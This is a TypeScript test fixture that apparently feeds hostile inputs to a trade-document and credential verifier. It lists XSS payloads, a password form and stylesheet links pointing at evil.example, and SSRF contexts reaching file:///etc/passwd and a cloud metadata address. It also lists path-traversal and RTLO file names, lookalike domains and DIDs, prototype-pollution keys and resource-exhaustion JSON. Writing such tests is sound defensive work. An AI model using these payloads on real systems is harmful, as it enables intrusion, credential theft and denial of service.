import type { Json } from "#domain/verify/json";

// The parts of trade-trust documents that mean harm, and the changes that make a document into one.

/** Set by whatever runs. */
export const MARK = "hawserHarmed";
const RUN = `window.${MARK}=1`;
const EVIL = "https://evil.example";
export const STORE = `0x${"5a".repeat(20)}`;
export const DOMAIN = "tern-sable.example";

export const ACTIVE: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">Read me</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>opener.${MARK}=1</script>`,
  `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}`,
  `</td></tr></table><script>${RUN}</script>`,
  `<style>@import url(${EVIL}/a.css)</style>`,
  `<link rel=stylesheet href=${EVIL}/a.css>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  `<object data="${EVIL}/a.swf"></object>`,
  `<form action="${EVIL}"><input name=password autofocus onfocus="${RUN}"></form>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `{{#$issuer}}{{/$issuer}}{{{number}}}`,
  "\u202egnp.exe\u202c",
  "\u0000\u0001\u001b[2J",
  `<math><mtext><mglyph><style><!--</style><img src=x onerror="${RUN}">`,
  '=HYPERLINK("https://evil.example","Open")',
];

export const NAMES: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "then",
  "toJSON",
  "length",
  `<img src=x onerror="${RUN}">`,
  "@id",
  "@context",
  "a.b",
  "",
];

/** Text of JSON in which the first of these stands for the second. */
type Change = (text: string) => string;
const put =
  (from: string, to: string): Change =>
  (text) =>
    text.replace(from, () => to);

export const STRUCTURES = Object.entries<Change>({
  "a hundred thousand lists in each other": () => `${"[".repeat(100_000)}${"]".repeat(100_000)}`,
  "ten thousand groups in each other": () => `${'{"data":'.repeat(10_000)}1${"}".repeat(10_000)}`,
  "a deep value": put('"vessel":"', `"deep":${'{"a":'.repeat(5_000)}1${"}".repeat(5_000)},"vessel":"`),
  "a value of five million letters": put('"vessel":"', `"vessel":"${"A".repeat(5_000_000)}`),
  "twenty thousand fields": put(
    '"vessel":"',
    `${Array.from({ length: 20_000 }, (_, at) => `"f${at}":1`).join(",")},"vessel":"`,
  ),
  "a field twice": (text) => text.replace(/"vessel":"[^"]*"/, '$&,"vessel":"OTHER STRAIT"'),
  "the data twice": (text) =>
    text
      .replace(/^\{/, '{"data":{},"credentialSubject":{},')
      .replace(/\}$/, ',"data":{"x":1},"credentialSubject":{"x":1}}'),
  "a number without end": put('"vessel":"', '"weight":1e999,"vessel":"'),
  "half a letter": put('"vessel":"', '"vessel":"\\ud800'),
  "more behind its end": (text) => `${text}{"x":1}`,
  "half of itself": (text) => text.slice(0, text.length / 2),
  "a list around it": (text) => `[${text}]`,
  "nothing at all": () => "{}",
  "no values": () => '{"data":null,"signature":null,"credentialSubject":null,"proof":null,"issuer":null}',
  "texts in the place of groups": () => '{"data":"x","signature":"y","issuer":7,"credentialSubject":"z","proof":"p"}',
  "lists in the place of groups": () =>
    '{"data":[[]],"signature":[],"issuer":[],"credentialSubject":[[]],"proof":[[]]}',
});

/** Changes of a document of OpenAttestation after it was wrapped. */
export const OF_ATTESTATION = Object.entries<Change>({
  "another root": (text) => text.replace(/"merkleRoot":"[0-9a-f]{64}"/, `"merkleRoot":"${"0".repeat(64)}"`),
  "a root that is none": (text) => text.replace(/"merkleRoot":"[0-9a-f]{64}"/, '"merkleRoot":"../../x"'),
  "a proof of twenty thousand": put(
    '"proof":[]',
    `"proof":[${`"${"0".repeat(64)}",`.repeat(19_999)}"${"0".repeat(64)}"]`,
  ),
  "twenty thousand hidden fields": (text) =>
    text.replace(/\}$/, `,"privacy":{"obfuscatedData":[${`"${"0".repeat(64)}",`.repeat(19_999)}"${"0".repeat(64)}"]}}`),
  "hidden fields that are none": (text) => text.replace(/\}$/, ',"privacy":{"obfuscatedData":[{},null,"x"]}}'),
  "two issuers": (text) => text.replace('"issuers":[{', '"issuers":[{"name":"Other"},{'),
  "no issuer": (text) => text.replace(/"issuers":\[.*?\]/, '"issuers":[]'),
  "an older store beside": put('"issuers":[{', `"issuers":[{"certificateStore":"0x${"6b".repeat(20)}",`),
});

/** Domains that look like the issuer's, or are no names of a domain. */
export const DOMAINS: readonly string[] = [
  "tern-s\u0430ble.example",
  "xn--tern-sble-5kg.example",
  "tern\u2010sable.example",
  "tern-sable.example.evil.example",
  "tern-sable.examp\u217ce",
  "tern-\u200bsable.example",
  "tern-sable.example@evil.example",
  "tern-sable.example/../evil",
  "tern-sable.example:8443",
  "https://tern-sable.example",
  "localhost",
  "127.0.0.1",
  "[::1]",
  "a".repeat(10_000),
  "",
];

export const CHAINS: readonly string[] = [
  "999999999",
  "-1",
  "0",
  "1337.5",
  "1e3",
  "1337abc",
  "9".repeat(400),
  "NaN",
  "",
];

/** Changes of a credential after it was signed. */
export const OF_CREDENTIAL = Object.entries<Change>({
  "words that mean others": put(
    '"vessel":{"@id":"urn:hawser:template:CertificateOfOrigin:vessel"}',
    '"vessel":{"@id":"urn:hawser:template:CertificateOfOrigin:place"}',
  ),
  "words exchanged with each other": (text) =>
    text
      .replace(
        '"vessel":{"@id":"urn:hawser:template:CertificateOfOrigin:vessel"}',
        '"vessel":{"@id":"urn:hawser:template:CertificateOfOrigin:from"}',
      )
      .replace(
        '"from":{"@id":"urn:hawser:template:CertificateOfOrigin:from"}',
        '"from":{"@id":"urn:hawser:template:CertificateOfOrigin:vessel"}',
      )
      .replace('"vessel":"OSTARA BAY, OB-044"', '"vessel":"Dumai, Indonesia"')
      .replace('"from":"Dumai, Indonesia"', '"from":"OSTARA BAY, OB-044"'),
  "words of another place": put(
    '"https://www.w3.org/ns/credentials/v2"',
    `"${EVIL}/context.json","https://www.w3.org/ns/credentials/v2"`,
  ),
  "words of a file": put(
    '"https://www.w3.org/ns/credentials/v2"',
    '"https://www.w3.org/ns/credentials/v2","file:///etc/passwd"',
  ),
  "words of the machine's own network": put(
    '"https://www.w3.org/ns/credentials/v2"',
    '"https://www.w3.org/ns/credentials/v2","http://169.254.169.254/latest"',
  ),
  "words that are imported": put('"hawserNumber":"urn', `"@import":"${EVIL}/c.json","hawserNumber":"urn`),
  "every word at once": put('"hawserNumber":"urn', '"@vocab":"urn:x","hawserNumber":"urn'),
  "no words of the model": put('"https://www.w3.org/ns/credentials/v2",', ""),
  "a suite without signature": put('"cryptosuite":"ecdsa-sd-2023"', '"cryptosuite":"none"'),
  "a suite of every object": put('"cryptosuite":"ecdsa-sd-2023"', '"cryptosuite":"__proto__"'),
  "a proof of another purpose": put('"proofPurpose":"assertionMethod"', '"proofPurpose":"authentication"'),
  "a proof of half its length": (text) => text.replace(/("proofValue":"u[A-Za-z0-9_-]{200})[^"]*/, "$1"),
  "a proof that is empty": (text) => text.replace(/"proofValue":"[^"]*"/, '"proofValue":""'),
  "a proof of a million letters": (text) =>
    text.replace(/"proofValue":"[^"]*"/, `"proofValue":"u2V0A${"A".repeat(1_000_000)}"`),
  "a thousand proofs": (text) =>
    text.replace(/"proof":(\{[^{}]*\})/, (_, proof: string) => `"proof":[${Array(1_000).fill(proof).join(",")}]`),
  "no proof": (text) => text.replace(/,"proof":\{[^{}]*\}/, ""),
  "a key of another": (text) =>
    text.replace(
      /"verificationMethod":"[^"]*"/,
      '"verificationMethod":"did:key:zDnaeTHxNEBZoKaEo6PdA83fq98ebiFvo3X273Ydu4YmV96rg#x"',
    ),
  "an item left out": (text) => text.replace(/,\{"marks":"IN BULK","description":"RBD palm stearin"[^}]*\}/, ""),
  "the items in another order": (text) => text.replace(/(\{"marks":[^}]*\}),(\{"marks":[^}]*\})/, "$2,$1"),
  "another template": put("CertificateOfOrigin_v1.0", "Invoice_v1.0"),
  "a status that nobody knows": (text) => text.replace(/\}$/, ',"credentialStatus":{"type":"Nothing","id":"urn:x"}}'),
  "a list elsewhere": (text) =>
    text.replace(
      /\}$/,
      `,"credentialStatus":{"type":"BitstringStatusListEntry","statusPurpose":"revocation","statusListIndex":"1","statusListCredential":"${EVIL}/list"}}`,
    ),
});

/** Issuers that look like others, or are nobody. */
export const DIDS: readonly string[] = [
  "did:web:h\u0430wser.example:api:did:1",
  "did:web:hawser.example%2F..%2Fevil",
  "did:web:evil.example",
  "did:web:127.0.0.1",
  "did:web:user%40evil.example",
  "did:key:zNothing",
  "did:ethr:0x0000000000000000000000000000000000000000",
  "javascript:alert(1)",
  "a".repeat(50_000),
];

/** Pages to draw a document that are no pages elsewhere. */
export const RENDERERS: readonly string[] = [
  `javascript:${RUN}`,
  `data:text/html,<script>parent.${MARK}=1</script>`,
  "file:///etc/passwd",
  "http://evil.example/",
  "https://user:word@evil.example/",
  "//evil.example/",
  `https://${"a".repeat(1_000)}.example/`,
  "blob:https://evil.example/1",
];

export const ATTACHMENTS: readonly Json[] = [
  { filename: "../../../etc/passwd", type: "text/plain", data: "QUJD" },
  { filename: "invoice.pdf\u202efdp.exe", type: "application/pdf", data: "TVo=" },
  { filename: `<img src=x onerror="${RUN}">.png`, type: `text/html"><script>${RUN}</script>`, data: "PHNjcmlwdD4=" },
  { filename: "a.svg", type: "image/svg+xml", data: btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`) },
  { filename: "CON", type: "x", data: "not base64 at all %%%" },
  { filename: "", type: "", data: "data:text/html;base64,PHNjcmlwdD4=" },
];
